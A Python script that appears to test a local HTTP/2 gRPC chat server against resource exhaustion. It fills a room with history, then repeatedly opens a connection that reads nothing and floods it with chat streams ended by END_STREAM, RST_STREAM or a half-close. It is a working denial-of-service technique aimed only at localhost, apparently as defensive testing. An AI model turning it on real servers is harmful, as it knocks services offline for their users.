"""Usage: unread_streams.py PORT STREAMS END

Fills a room with 4 MB, then attacks four times: joins the room over one connection and reads nothing, so that the server's output for
the connection is full, and opens chat streams until the server closes the connection, or until there were STREAMS of them. They end at
once: with END_STREAM if END is "end", with RST_STREAM if it is "reset". If it is "half", they do not end, but the client closes its
half of the connection.
"""
import socket
import sys

import h2.config
import h2.connection
import h2.settings

PORT, STREAMS, END = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
MESSAGES, BYTES, WINDOW, MAX_OPEN = 300, 15_000, 2**31 - 1, 900


def connect(receive_buffer=None):
    link = socket.socket()
    if receive_buffer:
        link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    link.connect(("127.0.0.1", PORT))
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    connection.initiate_connection()
    link.sendall(connection.data_to_send())
    return link, connection


def join(link, connection, **options):
    stream = connection.get_next_available_stream_id()
    connection.send_headers(stream, [
        (":method", "POST"), (":scheme", "http"), (":path", "/chat.ChatService/JoinChat"), (":authority", "localhost"),
        ("content-type", "application/grpc"), ("te", "trailers"), ("parley-room", "unread"), ("parley-history", "1000"),
    ], **options)
    link.sendall(connection.data_to_send())
    return stream


def message(text):
    content = bytes([0x0A, 1]) + b"a" + bytes([0x12, len(text) & 127 | 128, len(text) >> 7]) + text.encode()
    return b"\0" + len(content).to_bytes(4, "big") + content


def fill():
    link, connection = connect()
    stream = join(link, connection)
    received, frame = 0, message("x" * BYTES)
    while received < MESSAGES * len(frame):
        if connection.local_flow_control_window(stream) >= len(frame) and connection.open_outbound_streams:
            connection.send_data(stream, frame)
        link.sendall(connection.data_to_send())
        link.settimeout(0.001)
        try:
            for event in connection.receive_data(link.recv(65_536)):
                if getattr(event, "flow_controlled_length", None):
                    received += len(event.data)
                    connection.acknowledge_received_data(event.flow_controlled_length, stream)
        except TimeoutError:
            pass
        link.settimeout(None)
    link.close()


def attack():
    link, connection = connect(receive_buffer=4_096)
    connection.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: WINDOW})
    connection.increment_flow_control_window(WINDOW - 65_535)
    link.sendall(connection.data_to_send())
    connection.receive_data(link.recv(4_096))
    streams = []
    try:
        for _ in range(STREAMS):
            streams.append(join(link, connection, end_stream=END == "end"))
            if END == "reset" or len(streams) > MAX_OPEN:
                connection.reset_stream(streams.pop(0))
                link.sendall(connection.data_to_send())
    except (ConnectionError, TimeoutError) as error:
        print(f"closed by the server: {error}")
    if END == "half":
        try:
            link.shutdown(socket.SHUT_WR)
        except OSError as error:
            print(f"closed by the server: {error}")
    link.close()


fill()
for _ in range(4):
    attack()
